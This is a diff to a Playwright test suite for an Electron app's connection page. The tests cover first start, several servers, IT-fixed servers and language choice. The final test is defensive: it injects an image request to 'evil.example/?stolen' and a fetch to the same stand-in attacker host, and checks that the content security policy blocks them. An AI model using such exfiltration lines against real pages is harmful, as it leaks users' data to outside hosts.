@@ -1,4 +1,4 @@
-/** The connection page in Electron: the first start, several servers, and what a stranger finds there. */
+/** The connection page in Electron: the first start, several servers, and attacks on the page. */
 import { readFileSync } from "node:fs";
 import { join } from "node:path";
 import type { Page } from "playwright-core";
@@ -12,7 +12,7 @@ const shared = suite.share(() => ({ ...small, timing: { serverCheckMs: 2_000 } }
 
 async function toConnectionPage(desk: Desk): Promise<Desk> {
   const { page, origin } = desk;
-  // what answers in these tests is no more than an address, and the console says so
+  // the servers of these tests have no console API
   suite.tolerate(/CallError/);
   if (page.url() !== `${origin}/`) await page.goto(`${origin}/`);
   await page.getByRole("heading", { level: 1 }).waitFor();
@@ -23,26 +23,25 @@ async function toConnectionPage(desk: Desk): Promise<Desk> {
 const open = async (...servers: string[]): Promise<Desk> =>
   toConnectionPage(await shared({ servers, at: "/" }));
 
-/** The same of an app that finds something else at its start. */
+/** An app of the test's own. */
 const start = async (found: Parameters<typeof suite.start>[0]): Promise<Desk> =>
   toConnectionPage(await suite.start({ servers: [], ...small, ...found }));
 
 /** The settings as they are kept. */
 const stored = ({ userData }: Desk) => JSON.parse(readFileSync(join(userData, "settings.json"), "utf8"));
 
-/** The console is where one arrives. */
+/** The console has opened. */
 const arrives = (page: Page) => page.waitForURL((url) => url.pathname.startsWith("/dash/"));
 
-/** Stands in for the system's browser. @returns what it was asked to open */
-async function browserOf({ app }: Desk, works = true): Promise<() => Promise<string[]>> {
-  await app.evaluate(({ shell }, isThere) => {
+/** Replaces the system's browser, which fails the second time. @returns the opened addresses */
+async function browserOf({ app }: Desk): Promise<() => Promise<string[]>> {
+  await app.evaluate(({ shell }) => {
     const opened: string[] = [];
     Object.assign(globalThis, { opened });
     shell.openExternal = async (url) => {
-      if (!isThere) throw new Error("There is no browser.");
-      opened.push(url);
+      if (opened.push(url) > 1) throw new Error("There is no browser.");
     };
-  }, works);
+  });
   return () => app.evaluate(() => (globalThis as unknown as { opened: string[] }).opened);
 }
 
@@ -54,7 +53,7 @@ const type = async (page: Page, text: string) => {
 const sees = (page: Page, text: string) => page.getByText(text, { exact: false }).first().waitFor();
 
 describe("the first start", () => {
-  it("asks for the server, goes on to the console, and shows the server when somebody is back", async () => {
+  it("asks for the server, opens the console, and later shows the server", async () => {
     const server = await serve(healthy);
     const desk = await open();
     const { page, origin } = desk;
@@ -69,11 +68,13 @@ describe("the first start", () => {
     await page.getByRole("region", { name: "사용 중인 서버" }).getByText("연결됨").waitFor();
     await page.getByRole("button", { name: "방문예약 사이트 열기" }).click();
     await expect.poll(opened).toEqual([`${server.origin}/`]);
+    await page.getByRole("button", { name: "방문예약 사이트 열기" }).click();
+    await page.getByRole("alert").getByText("브라우저를 열지 못했습니다.").waitFor();
     await page.getByRole("button", { name: "방문 관리 열기" }).click();
     await arrives(page);
   });
 
-  it("says beside the field what is wrong with an address, and no longer once it is changed", async () => {
+  it("says at the field what is wrong with an address until it is changed", async () => {
     const desk = await open();
     const { page } = desk;
     const input = address(page);
@@ -97,7 +98,7 @@ describe("the first start", () => {
     expect(stored(desk).servers).toEqual([]);
   });
 
-  it("says what is wrong with what answers", async () => {
+  it("says why a server is refused", async () => {
     const wifi = await serve(saying(200, "text/html", "<html>Wi-Fi</html>"));
     const other = await serve(saying(200, "application/json", '{"status":"ok","product":"wiki"}'));
     const moved = await serve((_request, response) =>
@@ -118,7 +119,7 @@ describe("the first start", () => {
     expect(stored(desk).servers).toEqual([]);
   });
 
-  it("says that settings were lost, and that a policy cannot be read, which is not in force", async () => {
+  it("says that settings were lost, and that a policy cannot be read and is not in force", async () => {
     const { page } = await start({ settings: '{"servers":["https://visit', policy: '{"servers":["https' });
     await sees(page, "저장된 설정을 읽을 수 없어 새로 시작합니다.");
     await page.getByRole("combobox", { name: "언어 선택 (Language)" }).selectOption("en");
@@ -128,22 +129,19 @@ describe("the first start", () => {
 });
 
 describe("several servers", () => {
-  it("change by a press; one that fails stays where it was, with the reason beside it", {
-    tags: ["full"],
-  }, async () => {
-    const one = await serve(healthy);
-    const other = await listen(healthy);
-    const nobody = other.origin;
-    const desk = await open(one.origin, nobody);
+  it("keep the chosen one where another fails, and the chosen one is checked again", async () => {
+    const [one, other] = [await listen(healthy), await listen(healthy)];
+    const desk = await open(one.origin, other.origin);
     const { page } = desk;
     await other.close();
-    await page.getByRole("button", { name: `${nobody}에 연결` }).click();
+    await page.getByRole("button", { name: `${other.origin}에 연결` }).click();
     await page.getByRole("listitem").getByText("서버에 연결하지 못했습니다.").waitFor();
     expect(stored(desk).current).toBe(one.origin);
-    await page.getByRole("button", { name: `${nobody} 삭제` }).click();
-    await page.getByRole("listitem").waitFor({ state: "detached" });
-    await expect.poll(() => stored(desk).servers).toEqual([one.origin]);
-    await expect.poll(() => page.evaluate("document.activeElement?.textContent")).toBe("서버 연결");
+    await sees(page, "연결됨");
+    await one.close();
+    await page.getByRole("button", { name: "다시 확인" }).click();
+    await page.getByText("연결 안 됨").waitFor();
+    expect(await page.getByRole("button", { name: "방문예약 사이트 열기" }).count()).toBe(0);
   });
 
   it("can be changed and removed by keyboard alone", async () => {
@@ -158,7 +156,7 @@ describe("several servers", () => {
         );
         if (label === name) return page.keyboard.press("Enter");
       }
-      throw new Error(`No way to ${name}.`);
+      throw new Error(`"${name}" is not reached.`);
     };
     await press(`${two}에 연결`);
     await arrives(page);
@@ -168,29 +166,10 @@ describe("several servers", () => {
     await press(`${one} 삭제`);
     await expect.poll(() => stored(desk).servers).toEqual([two]);
   });
-
-  it("show the one that stopped answering, and ask it again", { tags: ["full"] }, async () => {
-    const server = await listen(healthy);
-    const { page } = await open(server.origin);
-    await sees(page, "연결됨");
-    await server.close();
-    await page.getByRole("button", { name: "다시 확인" }).click();
-    await page.getByRole("alert").getByText("서버에 연결하지 못했습니다.").waitFor();
-    await page.getByText("연결 안 됨").waitFor();
-    expect(await page.getByRole("button", { name: "방문예약 사이트 열기" }).count()).toBe(0);
-  });
-
-  it("say when the browser cannot be opened", { tags: ["full"] }, async () => {
-    const server = await serve(healthy);
-    const desk = await open(server.origin);
-    await browserOf(desk, false);
-    await desk.page.getByRole("button", { name: "방문예약 사이트 열기" }).click();
-    await desk.page.getByRole("alert").getByText("브라우저를 열지 못했습니다.").waitFor();
-  });
 });
 
 describe("servers that IT fixed", () => {
-  it("are the only ones: no other can be named, and none removed", async () => {
+  it("are the only ones: none can be added or removed", async () => {
     const [one, two] = [(await serve(healthy)).origin, (await serve(healthy)).origin];
     const desk = await start({ policy: { servers: [one, two] } });
     const { page } = desk;
@@ -214,7 +193,7 @@ it("the language is chosen on the page and kept", async () => {
   await expect.poll(() => stored(desk).language).toBe("en");
 });
 
-it("a frame inside the page has no way to the main process", async () => {
+it("a frame inside the page has no access to the main process", async () => {
   const { page } = await open();
   const inFrame = await page.evaluate(`
     const { contentWindow } = document.body.appendChild(document.createElement("iframe"));
@@ -228,12 +207,12 @@ it("a frame inside the page has no way to the main process", async () => {
   ]);
 });
 
-it("the policy stops what was slipped into the page", async () => {
+it("the content security policy stops what is injected into the page", async () => {
   suite.tolerate(/Content Security Policy/);
   const { page } = await open();
   const outcome = await page.evaluate(`(async () => {
     const broken = [];
-    const allTold = new Promise((resolve) => {
+    const allReported = new Promise((resolve) => {
       document.addEventListener("securitypolicyviolation", (event) => {
         if (broken.push(event.effectiveDirective) === 3) resolve();
       });
@@ -245,7 +224,7 @@ it("the policy stops what was slipped into the page", async () => {
     image.src = "https://evil.example/?stolen";
     document.body.append(image);
     await fetch("https://evil.example/").catch(() => {});
-    await allTold;
+    await allReported;
     return { broken: broken.sort(), slipped: "slipped" in window };
   })()`);
   expect(outcome).toEqual({ broken: ["connect-src", "img-src", "script-src-elem"], slipped: false });
